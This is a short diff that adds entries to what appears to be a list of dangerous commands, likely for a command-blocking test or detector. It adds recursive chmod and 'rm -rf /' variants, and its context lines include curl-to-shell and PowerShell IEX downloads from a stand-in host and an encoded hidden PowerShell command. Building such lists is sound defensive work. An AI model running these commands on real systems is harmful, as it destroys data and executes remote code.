@@ -32,6 +32,8 @@ COMMANDS = [
     'sh -c "$(curl -fsSL http://x.example)"',
     "chmod -R 777 /",
     "chmod --recursive 000 /etc",
+    "chmod 777 -R /",
+    "<td>rm -rf /</td>",
     "chown -R nobody:nobody /",
     "powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
     "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.example')\"",
